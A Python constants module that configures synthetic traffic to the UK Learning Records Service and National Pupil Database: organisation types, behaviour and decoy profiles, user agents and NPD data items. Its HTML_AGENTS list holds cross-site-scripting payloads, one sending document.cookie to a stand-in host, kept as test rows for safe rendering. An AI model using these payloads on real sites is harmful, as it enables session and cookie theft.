"""How each kind of organisation normally uses the LRS and the NPD (typed constants).

An org type (:data:`ORG_TYPES`) says how many of them there are and how big they are. A
behaviour profile (:data:`PROFILES`) says how an organisation queries: operation and
channel mix, learner ages and where learners live, hours, weekends, holidays and seasonal
surges, and how it revisits its learners. Every org has one profile: its type's, or a
decoy's (an online provider, an adult evening college, an HE provider in clearing...).

Volumes are calibrated so that a national register (about 12,600 organisations) makes
about 2 million LRS calls on a term-time weekday.
"""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass, field, replace
from types import MappingProxyType

import numpy as np

from schemas.events import LRS_OPERATIONS, LrsChannel, NpdChannel, ResponseCode
from schemas.reference import OrgType, Region

# --- Organisation types -----------------------------------------------------------------


@dataclass(frozen=True)
class OrgTypeSpec:
    """How many organisations of a type a register holds and how large they are."""

    share: float  # of all organisations
    min_count: int  # in any world (so every scenario and decoy finds a host)
    learners_median: float  # expected_learners ~ lognormal(median, sigma)
    learners_sigma: float
    lrs: bool  # has a UKPRN and uses the LRS
    profile: str  # default behaviour profile
    learners_per_user: float  # one more human account per this many learners
    max_users: int


ORG_TYPES: Mapping[OrgType, OrgTypeSpec] = MappingProxyType(
    {
        OrgType.school: OrgTypeSpec(0.405, 10, 380, 0.6, True, "school", 700, 8),
        OrgType.academy: OrgTypeSpec(0.30, 10, 750, 0.5, True, "school", 700, 10),
        OrgType.training_provider: OrgTypeSpec(0.16, 14, 250, 1.1, True, "training", 150, 20),
        OrgType.fe_college: OrgTypeSpec(0.027, 6, 6000, 0.6, True, "fe", 900, 30),
        OrgType.he_provider: OrgTypeSpec(0.013, 4, 9000, 0.8, True, "he", 2500, 25),
        OrgType.local_authority: OrgTypeSpec(0.012, 2, 2500, 0.5, True, "la", 600, 12),
        OrgType.awarding_org: OrgTypeSpec(0.011, 4, 40000, 1.3, True, "awarding", 12000, 15),
        OrgType.prison_education: OrgTypeSpec(0.008, 3, 350, 0.4, True, "prison", 150, 6),
        OrgType.research: OrgTypeSpec(0.025, 5, 0, 0.0, False, "none", 1, 3),
        OrgType.government: OrgTypeSpec(0.004, 2, 0, 0.0, False, "none", 1, 6),
        OrgType.commercial: OrgTypeSpec(0.015, 2, 800, 1.0, True, "commercial", 400, 10),
    }
)

REGION_WEIGHTS: Mapping[Region, float] = MappingProxyType(
    {
        Region.north_east: 0.05,
        Region.north_west: 0.13,
        Region.yorkshire: 0.10,
        Region.east_midlands: 0.09,
        Region.west_midlands: 0.10,
        Region.east: 0.11,
        Region.london: 0.16,
        Region.south_east: 0.16,
        Region.south_west: 0.10,
    }
)

INACTIVE_SHARE = 0.015
"""Organisations suspended, revoked or closed before the window (silent in it)."""
RENAMED_SHARE = 0.03
"""Organisations with a past change of name."""
RECENT_REGISTRATION_SHARE = 0.03
"""Organisations registered within the year before the window."""
ACTIVITY_SIGMA = 0.45
"""Per-org lognormal spread of activity around its type's rate."""
DAY_NOISE_SHAPE = 6.0
"""Gamma shape of day-to-day variation of an org's volume (mean 1)."""

# --- Operations, channels, responses ----------------------------------------------------

OPS: tuple[str, ...] = LRS_OPERATIONS
OP = {name: i for i, name in enumerate(OPS)}
CHANNELS: tuple[str, ...] = tuple(c.value for c in LrsChannel)
CH = {name: i for i, name in enumerate(CHANNELS)}
RESPONSES: tuple[str, ...] = tuple(r.value for r in ResponseCode)
RC = {r.name: i for i, r in enumerate(ResponseCode)}

BATCH_OPS = frozenset(
    {"submitBatchRegistration", "getBatchRegistrationOutput", "submitVerifyBatch",
     "getVerifyBatchOutput"}
)  # fmt: skip
SENDS_ULN = frozenset(
    {"learnerByULN", "LearnerByUln", "GetLearnerLearningEvents", "updateSingleLearner",
     "verifyLearner", "UpdateLearnerSubsetFields"}
)  # fmt: skip
SENDS_DEMOGRAPHICS = frozenset(
    {"learnerByDemographics", "registerSingleLearner", "updateSingleLearner", "verifyLearner"}
)
RETURNS_ULN = frozenset({"learnerByDemographics", "registerSingleLearner"})
RETURNS_DEMOGRAPHICS = frozenset({"learnerByULN", "LearnerByUln", "GetLearnerLearningEvents"})
NO_LEARNER = frozenset({"retrieveULNs", "ViewAudit", "GetOrganisation"} | BATCH_OPS)

_R = ResponseCode
RESPONSE_MIX: Mapping[str, Mapping[ResponseCode, float]] = MappingProxyType(
    {
        "uln_lookup": {_R.exact_match: 0.92, _R.linked_match: 0.03, _R.no_match: 0.05},
        "demographics": {
            _R.exact_match: 0.55,
            _R.possible_match: 0.25,
            _R.no_match: 0.15,
            _R.too_many: 0.05,
        },
        "register": {_R.exact_match: 0.97, _R.possible_match: 0.03},
        "update": {_R.exact_match: 0.98, _R.not_verified: 0.02},
        "verify": {
            _R.exact_match: 0.90,
            _R.linked_match: 0.03,
            _R.no_match: 0.04,
            _R.not_verified: 0.03,
        },
        "plr": {_R.exact_match: 0.95, _R.opted_out: 0.03, _R.not_verified: 0.02},
        "ok": {_R.exact_match: 1.0},
    }
)
OP_RESPONSE_FAMILY: Mapping[str, str] = MappingProxyType(
    {
        "learnerByULN": "uln_lookup",
        "LearnerByUln": "uln_lookup",
        "learnerByDemographics": "demographics",
        "registerSingleLearner": "register",
        "updateSingleLearner": "update",
        "UpdateLearnerSubsetFields": "update",
        "verifyLearner": "verify",
        "GetLearnerLearningEvents": "plr",
    }
)


def _response_cum() -> np.ndarray:
    table = np.zeros((len(OPS), len(RESPONSES)))
    for name, i in OP.items():
        mix = RESPONSE_MIX[OP_RESPONSE_FAMILY.get(name, "ok")]
        for code, w in mix.items():
            table[i, RESPONSES.index(code.value)] = w
    cum = np.cumsum(table / table.sum(axis=1, keepdims=True), axis=1)
    cum[:, -1] = 1.0
    return cum


RESPONSE_CUM = _response_cum()
"""Per operation, cumulative probabilities over :data:`RESPONSES`."""


def op_flags(names: frozenset[str]) -> np.ndarray:
    """A boolean lookup table over operation indices."""
    return np.array([n in names for n in OPS], dtype=bool)


IS_BATCH = op_flags(BATCH_OPS)
HAS_ULN_SENT = op_flags(SENDS_ULN)
HAS_DEMOG_SENT = op_flags(SENDS_DEMOGRAPHICS)
HAS_ULN_RETURNED = op_flags(RETURNS_ULN)
HAS_DEMOG_RETURNED = op_flags(RETURNS_DEMOGRAPHICS)
HAS_LEARNER = ~op_flags(NO_LEARNER)

BATCH_SIZE_MEDIAN = 300.0
BATCH_SIZE_SIGMA = 1.0
BATCH_SIZE_RANGE = (50, 5000)

# --- Hours of the day (local time) ------------------------------------------------------

HOURS_OFFICE: tuple[float, ...] = (
    0.02, 0.01, 0.01, 0.01, 0.01, 0.02, 0.1, 0.8, 4, 8, 9, 9,
    7, 8, 8.5, 7.5, 5, 2.5, 0.8, 0.4, 0.25, 0.15, 0.08, 0.04,
)  # fmt: skip
HOURS_EXTENDED: tuple[float, ...] = (
    0.05, 0.02, 0.02, 0.02, 0.02, 0.05, 0.3, 1.5, 4, 6, 7, 7,
    6, 6.5, 6.5, 6, 5, 4, 3.5, 3, 2.5, 1.5, 0.6, 0.2,
)  # fmt: skip
HOURS_EVENING: tuple[float, ...] = (
    0.02, 0.01, 0.01, 0.01, 0.01, 0.02, 0.1, 0.5, 1.5, 3, 3.5, 3.5,
    3, 3.5, 3.5, 3.5, 4, 6, 8, 8.5, 7, 3.5, 0.8, 0.1,
)  # fmt: skip
HOURS_OVERNIGHT: tuple[float, ...] = (
    3, 5, 5, 4, 3, 2, 1, 0.5, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0.5, 1, 1.5, 2, 2.5,
)  # fmt: skip
"""Batch files handed in after 18:00 run overnight."""

# --- Behaviour profiles -----------------------------------------------------------------

AgeBands = tuple[tuple[int, int, float], ...]
"""(youngest, oldest exclusive, weight) bands of learner age at the window start."""


@dataclass(frozen=True)
class Profile:
    """How one kind of organisation uses the LRS on an ordinary term-time weekday."""

    name: str
    events_per_learner: float  # calls per expected learner per term-time weekday
    op_mix: Mapping[str, float]
    portal_share: float  # of non-batch calls made through the portal
    service_share: float  # of web-service calls made by the service account
    ages: AgeBands
    geo: tuple[float, float, float]  # learners in home area / rest of region / anywhere
    hours: tuple[float, ...] = HOURS_OFFICE
    overnight_batch_share: float = 0.3
    weekend_factor: float = 0.05
    bank_holiday_factor: float = 0.05
    holiday_factor: float = 0.3  # school holidays
    enrolment_surge: float = 1.0  # peak multiplier in the September enrolment surge
    results_surge: float = 1.0  # peak multiplier around results days
    clearing_surge: float = 1.0  # peak multiplier in HE admissions / clearing
    pool_factor: float = 1.2  # learner pool = expected_learners x this
    pool_skew: float = 2.0  # draws concentrate on the first learners of the pool
    script_share: float = 0.0  # orgs whose web-service client is a bare script library
    follow_share: float = 0.0  # searched people followed up by the same org (lrs.py)
    follow_lag_max: int = 0  # ... 0 to this many days later
    extra: Mapping[str, float] = field(default_factory=dict)


_SCHOOL_OPS = {
    "learnerByULN": 0.30, "learnerByDemographics": 0.28, "registerSingleLearner": 0.12,
    "updateSingleLearner": 0.08, "GetLearnerLearningEvents": 0.08, "LearnerByUln": 0.05,
    "verifyLearner": 0.03, "submitBatchRegistration": 0.015, "getBatchRegistrationOutput": 0.015,
    "GetOrganisation": 0.01, "ViewAudit": 0.01,
}  # fmt: skip
_FE_OPS = {
    "learnerByULN": 0.22, "learnerByDemographics": 0.24, "registerSingleLearner": 0.12,
    "updateSingleLearner": 0.12, "GetLearnerLearningEvents": 0.12, "LearnerByUln": 0.08,
    "UpdateLearnerSubsetFields": 0.03, "verifyLearner": 0.02, "submitBatchRegistration": 0.01,
    "getBatchRegistrationOutput": 0.01, "retrieveULNs": 0.01, "GetOrganisation": 0.005,
    "ViewAudit": 0.005,
}  # fmt: skip
_TRAINING_OPS = {
    "learnerByULN": 0.20, "learnerByDemographics": 0.27, "registerSingleLearner": 0.14,
    "updateSingleLearner": 0.10, "GetLearnerLearningEvents": 0.13, "LearnerByUln": 0.08,
    "UpdateLearnerSubsetFields": 0.02, "verifyLearner": 0.02, "submitBatchRegistration": 0.005,
    "getBatchRegistrationOutput": 0.005, "GetOrganisation": 0.005, "ViewAudit": 0.005,
}  # fmt: skip
_HE_OPS = {
    "learnerByULN": 0.34, "LearnerByUln": 0.15, "GetLearnerLearningEvents": 0.30,
    "learnerByDemographics": 0.13, "verifyLearner": 0.05, "ViewAudit": 0.01,
    "GetOrganisation": 0.02,
}  # fmt: skip
_LA_OPS = {
    "learnerByULN": 0.34, "learnerByDemographics": 0.34, "GetLearnerLearningEvents": 0.15,
    "updateSingleLearner": 0.05, "LearnerByUln": 0.10, "GetOrganisation": 0.02,
}  # fmt: skip
_AO_OPS = {
    "verifyLearner": 0.45, "learnerByULN": 0.30, "submitVerifyBatch": 0.03,
    "getVerifyBatchOutput": 0.03, "LearnerByUln": 0.15, "learnerByDemographics": 0.03,
    "GetOrganisation": 0.01,
}  # fmt: skip
_PRISON_OPS = {
    "learnerByDemographics": 0.30, "learnerByULN": 0.25, "registerSingleLearner": 0.15,
    "updateSingleLearner": 0.10, "GetLearnerLearningEvents": 0.15, "LearnerByUln": 0.05,
}  # fmt: skip
_COMMERCIAL_OPS = {
    "learnerByULN": 0.35, "learnerByDemographics": 0.35, "GetLearnerLearningEvents": 0.20,
    "LearnerByUln": 0.10,
}  # fmt: skip
_AO_RESULTS_OPS = {
    "verifyLearner": 0.25, "learnerByULN": 0.12, "submitVerifyBatch": 0.25,
    "getVerifyBatchOutput": 0.25, "LearnerByUln": 0.08, "GetOrganisation": 0.05,
}  # fmt: skip
_ONLINE_OPS = {
    "learnerByDemographics": 0.33, "registerSingleLearner": 0.18, "updateSingleLearner": 0.16,
    "learnerByULN": 0.15, "GetLearnerLearningEvents": 0.10, "LearnerByUln": 0.06,
    "UpdateLearnerSubsetFields": 0.02,
}  # fmt: skip

_DISTANCE_OPS = {
    "learnerByULN": 0.30, "LearnerByUln": 0.12, "GetLearnerLearningEvents": 0.22,
    "updateSingleLearner": 0.16, "learnerByDemographics": 0.10, "registerSingleLearner": 0.06,
    "UpdateLearnerSubsetFields": 0.04,
}  # fmt: skip
"""A distance-learning provider's work on its existing cohort (new people: scenarios.py)."""

_ADULTS: AgeBands = ((19, 30, 0.45), (30, 50, 0.4), (50, 66, 0.15))

_BASE_PROFILES: tuple[Profile, ...] = (
    Profile("none", 0.0, {"GetOrganisation": 1.0}, 0.0, 0.0, ((30, 60, 1.0),), (1, 0, 0)),
    Profile(
        "school", 0.068, _SCHOOL_OPS, 0.55, 0.5,
        ((5, 11, 0.12), (11, 16, 0.48), (16, 19, 0.40)), (0.85, 0.13, 0.02),
        weekend_factor=0.02, holiday_factor=0.08, enrolment_surge=1.6,
    ),
    Profile(
        "fe", 0.27, _FE_OPS, 0.12, 0.6,
        ((16, 19, 0.65), (19, 30, 0.2), (30, 60, 0.15)), (0.6, 0.33, 0.07),
        weekend_factor=0.05, holiday_factor=0.35, enrolment_surge=3.0,
    ),
    Profile(
        "training", 0.48, _TRAINING_OPS, 0.35, 0.5,
        ((16, 19, 0.35), (19, 25, 0.4), (25, 60, 0.25)), (0.45, 0.35, 0.2),
        weekend_factor=0.08, holiday_factor=0.75, enrolment_surge=2.2,
    ),
    Profile(
        "he", 0.10, _HE_OPS, 0.15, 0.6,
        ((17, 19, 0.45), (19, 22, 0.4), (22, 45, 0.15)), (0.25, 0.25, 0.5),
        weekend_factor=0.06, holiday_factor=0.7, clearing_surge=2.5,
    ),
    Profile(
        "la", 0.14, _LA_OPS, 0.5, 0.4,
        ((14, 19, 0.6), (19, 25, 0.35), (25, 40, 0.05)), (0.8, 0.18, 0.02),
        weekend_factor=0.03, holiday_factor=0.5,
    ),
    Profile(
        "awarding", 0.023, _AO_OPS, 0.02, 0.8,
        ((14, 17, 0.35), (17, 20, 0.45), (20, 60, 0.2)), (0.05, 0.05, 0.9),
        overnight_batch_share=0.5, weekend_factor=0.15, holiday_factor=1.0, results_surge=3.0,
    ),
    Profile(
        "prison", 0.10, _PRISON_OPS, 0.7, 0.3, ((18, 25, 0.3), (25, 60, 0.7)), (0.2, 0.4, 0.4),
        hours=HOURS_EXTENDED, weekend_factor=0.3, holiday_factor=0.9, bank_holiday_factor=0.3,
    ),
    Profile(
        "commercial", 0.14, _COMMERCIAL_OPS, 0.4, 0.5,
        ((16, 25, 0.7), (25, 60, 0.3)), (0.3, 0.4, 0.3),
        weekend_factor=0.1, holiday_factor=0.7,
    ),
)  # fmt: skip

_BY_NAME = {p.name: p for p in _BASE_PROFILES}

DECOY_PROFILES: tuple[Profile, ...] = (
    replace(_BY_NAME["fe"], name="enrolment_surge"),  # surge set from the decoy's strength
    replace(_BY_NAME["awarding"], name="results_day_batch", op_mix=_AO_RESULTS_OPS),
    replace(_BY_NAME["he"], name="he_clearing", ages=((17, 19, 0.85), (19, 25, 0.15)),
            geo=(0.1, 0.15, 0.75)),
    Profile(
        "online_provider", 0.6, _ONLINE_OPS, 0.3, 0.6, _ADULTS, (0.05, 0.1, 0.85),
        hours=HOURS_EXTENDED, weekend_factor=0.35, bank_holiday_factor=0.3, holiday_factor=1.0,
        enrolment_surge=1.3, pool_factor=0.8, pool_skew=2.5,
    ),
    Profile(
        "evening_provision", 0.3, _PRISON_OPS, 0.5, 0.4, _ADULTS, (0.55, 0.4, 0.05),
        hours=HOURS_EVENING, weekend_factor=0.6, bank_holiday_factor=0.4, holiday_factor=0.8,
        enrolment_surge=2.0,
    ),
    Profile(
        "national_distance_learning", 0.035, _DISTANCE_OPS, 0.15, 0.85,
        ((19, 30, 0.4), (30, 45, 0.4), (45, 61, 0.2)), (0.02, 0.05, 0.93),
        hours=HOURS_EXTENDED, weekend_factor=0.55, bank_holiday_factor=0.5, holiday_factor=1.0,
        enrolment_surge=1.4, pool_factor=1.0, pool_skew=1.5,
    ),
)  # fmt: skip

PROFILES: tuple[Profile, ...] = _BASE_PROFILES + DECOY_PROFILES
PROFILE_INDEX: Mapping[str, int] = MappingProxyType({p.name: i for i, p in enumerate(PROFILES)})

# --- User agents and names --------------------------------------------------------------

BROWSER_AGENTS: tuple[str, ...] = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/128.0.0.0 Safari/537.36 Edg/128.0.2739.42",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:129.0) Gecko/20100101 Firefox/129.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.5 Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/125.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/127.0.0.0 Safari/537.36 Edg/127.0.2651.98",
    "Mozilla/5.0 (Windows NT 6.1; Win64; x64; Trident/7.0; rv:11.0) like Gecko",
)
CLIENT_AGENTS: Mapping[str, tuple[str, ...]] = MappingProxyType(
    {
        "school": (
            "SIMS.LRS.Client/7.211.4 (.NET CLR 4.8; Windows Server 2019)",
            "Arbor-LRS-Bridge/2.14.0",
            "Bromcom.LearnerRecords/11.2.3",
            "Scholarpack LRS Connector 3.1",
        ),
        "fe": (
            "ebs-ontrack LRSConnector/4.31.2",
            "UNIT-e LRS Service/2024.3.1 (Java/17.0.9)",
            "ProSolution.LRS/5.6.0.14",
            "Maytas LRS WebService Client 24.1",
        ),
        "training": (
            "Maytas LRS WebService Client 24.1",
            "PICS-LRS/8.4.2",
            "Aptem LRS Sync/3.9",
            "Microsoft WCF Client/4.8",
            "ProSolution.LRS/5.6.0.14",
        ),
        "he": (
            "SITS:Vision LRS Module 10.7.1",
            "Apache-HttpClient/4.5.13 (Java/11.0.19)",
            "Unit4 StudentLRS/2023.2",
        ),
        "awarding": (
            "AO-Verify-Service/3.2.7 (Java/17.0.2)",
            "Apache-CXF/3.5.5",
            "Microsoft WCF Client/4.8",
        ),
        "other": (
            "CapitaOne LRS Client/5.1",
            "Microsoft WCF Client/4.8",
            "gSOAP/2.8.117",
        ),
    }
)
CLIENT_UPGRADE_SUFFIX = " (build 2)"
SCRIPT_AGENTS: tuple[str, ...] = (
    "python-requests/2.31.0",
    "curl/8.4.0",
    "Go-http-client/1.1",
    "okhttp/4.9.3",
    "python-zeep/4.2.1",
)
"""Automated clients that no MIS ships."""
HTML_AGENTS: tuple[str, ...] = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "Mozilla/5.0 <svg/onload=alert('xss')>",
    "</td><script>document.location='http://x.invalid/?c='+document.cookie</script>",
    "<b>bold</b>, \"quoted\", 'single' & more",
)
"""Attacker-controlled user agents: valid rows whose text must never be rendered as HTML."""

SURNAMES: tuple[str, ...] = (
    "smith", "jones", "taylor", "brown", "williams", "wilson", "johnson", "davies", "patel",
    "robinson", "wright", "thompson", "evans", "walker", "white", "roberts", "green", "hall",
    "wood", "jackson", "clarke", "khan", "ahmed", "hussain", "begum", "lewis", "harris",
    "martin", "cooper", "king", "lee", "baker", "hill", "moore", "ward", "morris", "turner",
    "okafor", "nowak", "kaur", "singh", "murphy", "kelly", "price", "bennett", "shaw", "cox",
)  # fmt: skip
SERVICE_ACCOUNTS: tuple[str, ...] = ("svc_lrs", "lrs_ws", "mis.service", "LRSBATCH01", "api_lrs")

NAME_STEMS: tuple[str, ...] = (
    "Oak", "Ash", "Brook", "Elm", "Hazel", "Wil", "Lark", "Fern", "Heath", "Marsh", "Stone",
    "Thorn", "Holly", "Willow", "Beech", "Cedar", "Maple", "Rowan", "Kings", "Queens", "North",
    "South", "East", "West", "High", "Long", "Mill", "Church", "Castle", "River", "Bridge",
)  # fmt: skip
NAME_ENDS: tuple[str, ...] = (
    "field", "wood", "brook", "ley", "ton", "ford", "gate", "hurst", "mead", "dale", "side",
    "bury", "worth", "combe", "holme", "bank",
)  # fmt: skip
TYPE_SUFFIXES: Mapping[OrgType, tuple[str, ...]] = MappingProxyType(
    {
        OrgType.school: ("Primary School", "High School", "School", "Community School"),
        OrgType.academy: ("Academy", "Free School", "Church of England Academy"),
        OrgType.training_provider: ("Training Ltd", "Skills Ltd", "Apprenticeships", "Learning"),
        OrgType.fe_college: ("College", "College of Further Education", "Sixth Form College"),
        OrgType.he_provider: ("University", "Institute of Technology", "University College"),
        OrgType.local_authority: ("Council", "County Council", "Borough Council"),
        OrgType.awarding_org: ("Awards", "Assessment Board", "Qualifications"),
        OrgType.prison_education: ("Prison Education Service", "Offender Learning"),
        OrgType.research: ("Education Research Centre", "Policy Institute", "Research Unit"),
        OrgType.government: ("Directorate", "Analysis Division"),
        OrgType.commercial: ("Careers Ltd", "Workforce Solutions Ltd", "Consulting Ltd"),
    }
)
RESELLER_NAMES: tuple[str, ...] = (
    "Veriscreen Employment Checks Ltd",
    "ClearPath Screening Solutions Ltd",
    "IDSure Background Services Ltd",
    "TrustLine Vetting Ltd",
)

# --- NPD --------------------------------------------------------------------------------

NpdItem = tuple[str, int, str]
"""(item name, identifiability 1-5 with 1 most identifying, sensitivity A-E with A most)."""
_PMR: NpdItem = ("pupil_matching_ref", 4, "E")
NPD_ITEMS: Mapping[str, tuple[NpdItem, ...]] = MappingProxyType(
    {
        "census": (
            ("upn", 1, "D"), ("forename", 1, "D"), ("surname", 1, "D"),
            ("home_postcode", 2, "D"), ("date_of_birth", 2, "D"), _PMR, ("gender", 4, "E"),
            ("ethnicity", 4, "B"), ("fsm_eligible", 4, "B"), ("sen_provision", 4, "A"),
            ("first_language", 4, "C"), ("la_code", 5, "E"), ("urn", 5, "E"),
            ("ncy_actual", 5, "E"), ("month_of_birth", 3, "D"),
        ),
        "ks2": (_PMR, ("ks2_read_score", 5, "E"), ("ks2_mat_score", 5, "E"),
                ("ks2_gps_score", 5, "E"), ("ks2_exp_std_rwm", 5, "E")),
        "ks4": (_PMR, ("att8", 5, "E"), ("p8score", 5, "E"), ("ebacc_entered", 5, "E"),
                ("gcse_grades", 5, "E"), ("postcode_sector", 3, "D")),
        "ks5": (_PMR, ("alevel_aps", 5, "E"), ("applied_general", 5, "E"),
                ("tlevel_grade", 5, "E")),
        "absence": (_PMR, ("sessions_possible", 5, "E"), ("overall_absence", 5, "D"),
                    ("persistent_absentee", 4, "C"), ("illness_sessions", 4, "C")),
        "exclusions": (_PMR, ("exclusion_type", 4, "B"), ("exclusion_reason", 3, "A"),
                       ("exclusion_sessions", 4, "B")),
        "cin": (_PMR, ("cin_referral_date", 3, "A"), ("cin_primary_need", 3, "A"),
                ("cp_plan_category", 3, "A")),
        "cla": (_PMR, ("cla_placement_type", 3, "A"), ("cla_legal_status", 3, "A"),
                ("cla_episode_count", 4, "A")),
    }
)  # fmt: skip
NPD_DATASETS: tuple[str, ...] = tuple(NPD_ITEMS)
HOME_OFFICE_ITEMS: tuple[NpdItem, ...] = (
    ("forename", 1, "D"), ("surname", 1, "D"), ("gender", 4, "E"), ("date_of_birth", 2, "D"),
    ("home_address", 1, "D"), ("urn", 5, "E"),
)  # fmt: skip
HOME_OFFICE_MATCH_DAY = 15
"""The monthly Home Office match runs on the first weekday on or after this day of month."""
HOME_OFFICE_MATCHED_PER_MONTH = 21.0
"""About 1,780 matched in 86 months (July 2015 - September 2022)."""
NPD_RESEARCH_QUERIES_PER_DAY = 1.2
NPD_INTERNAL_QUERIES_PER_DAY = 4.0
NPD_WEEKEND_FACTOR = 0.05
NPD_CHANNELS: tuple[str, ...] = tuple(c.value for c in NpdChannel)
